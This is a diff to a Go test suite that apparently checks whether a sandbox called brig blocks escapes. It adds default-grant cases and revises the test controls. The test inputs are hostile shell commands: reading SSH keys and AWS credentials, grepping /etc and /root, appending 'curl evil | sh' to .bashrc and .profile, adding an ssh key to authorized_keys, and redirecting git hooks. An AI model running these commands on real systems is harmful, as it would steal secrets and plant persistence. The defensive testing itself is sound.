@@ -57,6 +57,7 @@ func cases() []escCase {
 	for _, f := range []func() []escCase{
 		secretCases, traversalCases, procCases, writeCases, protectedCases,
 		networkCases, supervisorCases, kernelCases, terminalCases, survivorCases, exhaustionCases,
+		defaultGrantCases,
 	} {
 		all = append(all, f()...)
 	}
@@ -83,6 +84,14 @@ func secretCases() []escCase {
 	read := func(name, rel, grant, script string) escCase {
 		return escCase{family: "secrets", name: name, passes: fsPasses,
 			control: func(t *testing.T, e *env) {
+				if grant == "" {
+					// brig's own directory is never granted: the control
+					// reads it outside the jail.
+					if out, _ := e.outside("cat", e.path(rel)); !strings.Contains(out, e.canary) {
+						controlFail(t, "reading %s outside the jail did not show the canary", rel)
+					}
+					return
+				}
 				res := e.sh(`cat "$ESC_ROOT/`+rel+`"`, withRead(e.path(grant)))
 				e.wantIn(res, e.canary, "reading "+rel+" with "+grant+" granted")
 			},
@@ -97,14 +106,16 @@ func secretCases() []escCase {
 			`cat ~/.ssh/id_rsa; cat "$HOME/.ssh/id_rsa"; head -c 4096 "$HOME"/.ssh/*; python3 -c 'import os;print(open(os.path.expanduser("~/.ssh/id_rsa")).read())'`),
 		read("aws credentials", "home/.aws/credentials", "home/.aws",
 			`cat ~/.aws/credentials; grep -r aws_secret "$HOME/.aws"; dd if="$HOME/.aws/credentials" bs=1 2>/dev/null`),
-		read("brig credentials", "home/.config/brig/credentials.toml", "home/.config/brig",
+		read("brig credentials", "home/.config/brig/credentials.toml", "",
 			`cat ~/.config/brig/credentials.toml; cat "$HOME"/.config/brig/*`),
 		read("another project", "other/secret.txt", "other",
 			`cat "$ESC_OTHER/secret.txt"; ls -la "$ESC_OTHER"; cat "$ESC_ROOT"/*/secret.txt`),
 		{family: "secrets", name: "grep the filesystem", passes: fsPasses,
 			control: func(t *testing.T, e *env) {
-				res := e.sh(`grep -rs BRIGCANARY "$HOME"`, withRead(e.home))
-				e.wantIn(res, e.canary, "grep over a granted $HOME")
+				// A grant of $HOME masks the secrets in it; another
+				// project holds the canary as an ordinary file.
+				res := e.sh(`grep -rs BRIGCANARY "$ESC_OTHER"`, withRead(e.other))
+				e.wantIn(res, e.canary, "grep over a granted project")
 			},
 			attack: func(t *testing.T, e *env) {
 				res := e.sh(`grep -rs BRIGCANARY "$HOME" "$ESC_ROOT" /var/tmp /root /home /etc 2>/dev/null | head -100`)
@@ -412,6 +423,11 @@ func writeCases() []escCase {
 	}
 	other := func(e *env) []string { return []string{e.other} }
 	home := func(e *env) []string { return []string{e.home} }
+	// A grant of $HOME keeps the later-executed files and secrets in it
+	// read-only; the controls name the file (or directory) itself.
+	named := func(rel string) func(e *env) []string {
+		return func(e *env) []string { return []string{e.path(rel)} }
+	}
 
 	tmpName := "brig-escape-planted-" + randHex(6)
 	return []escCase{
@@ -420,10 +436,25 @@ func writeCases() []escCase {
 		unchanged("append to another project's file", `echo pwn >> "$ESC_OTHER/secret.txt"; truncate -s 0 "$ESC_OTHER/secret.txt"`, other, "other/secret.txt"),
 		created("home dotfiles", `echo 'curl evil | sh' > ~/.profile; mkdir -p ~/.config/autostart && echo x > ~/.config/autostart/evil.desktop; echo x > ~/.config/other/evil`,
 			`echo x > ~/.config/other/evil`, home, "home/.config/other/evil", "home/.profile", "home/.config/autostart", "home/.config/other/evil"),
-		unchanged("append to .bashrc", `echo 'curl evil | sh' >> ~/.bashrc`, home, "home/.bashrc"),
-		created("ssh authorized_keys", `echo 'ssh-ed25519 AAAAC3 evil' >> ~/.ssh/authorized_keys`, `echo 'ssh-ed25519 AAAAC3 evil' >> ~/.ssh/authorized_keys`,
-			home, "home/.ssh/authorized_keys", "home/.ssh/authorized_keys"),
-		unchanged("global gitconfig", `git config --global core.hooksPath /tmp/evil; printf '[alias]\n\tst = !touch /tmp/x\n' >> ~/.gitconfig`, home, "home/.gitconfig"),
+		unchanged("append to .bashrc", `echo 'curl evil | sh' >> ~/.bashrc`, named("home/.bashrc"), "home/.bashrc"),
+		{family: "writes", name: "ssh authorized_keys", passes: fsPasses,
+			// The control names the file: under a grant of ~/.ssh, the
+			// later-executed ~/.ssh/rc and config stay protected, which
+			// (without namespaces) keeps new entries out of ~/.ssh.
+			control: func(t *testing.T, e *env) {
+				e.mkfile("home/.ssh/authorized_keys", "", 0o600)
+				e.sh(`echo 'ssh-ed25519 AAAAC3 evil' >> ~/.ssh/authorized_keys`, withWrite(e.path("home/.ssh/authorized_keys")))
+				if !strings.Contains(fileContent(e.path("home/.ssh/authorized_keys")), "evil") {
+					controlFail(t, "appending to ~/.ssh/authorized_keys with it granted did not work")
+				}
+			},
+			attack: func(t *testing.T, e *env) {
+				e.sh(`echo 'ssh-ed25519 AAAAC3 evil' >> ~/.ssh/authorized_keys`)
+				if exists(e.path("home/.ssh/authorized_keys")) {
+					escaped(t, "home/.ssh/authorized_keys exists after the call")
+				}
+			}},
+		unchanged("global gitconfig", `git config --global core.hooksPath /tmp/evil; printf '[alias]\n\tst = !touch /tmp/x\n' >> ~/.gitconfig`, named("home/.gitconfig"), "home/.gitconfig"),
 		created("through a symlink made in the jail", `ln -s "$ESC_OTHER/planted" src/out; echo pwn > src/out; ln -s "$ESC_OTHER" src/od; echo pwn > src/od/planted2; ln -s "$ESC_OTHER/sub" src/os; echo pwn > src/os/planted3`,
 			`ln -s "$ESC_OTHER/sub" src/os; echo pwn > src/os/planted3`, other, "other/sub/planted3", "other/planted", "other/planted2", "other/sub/planted3"),
 		{family: "writes", name: "through a symlink shipped by the repository", passes: fsPasses,
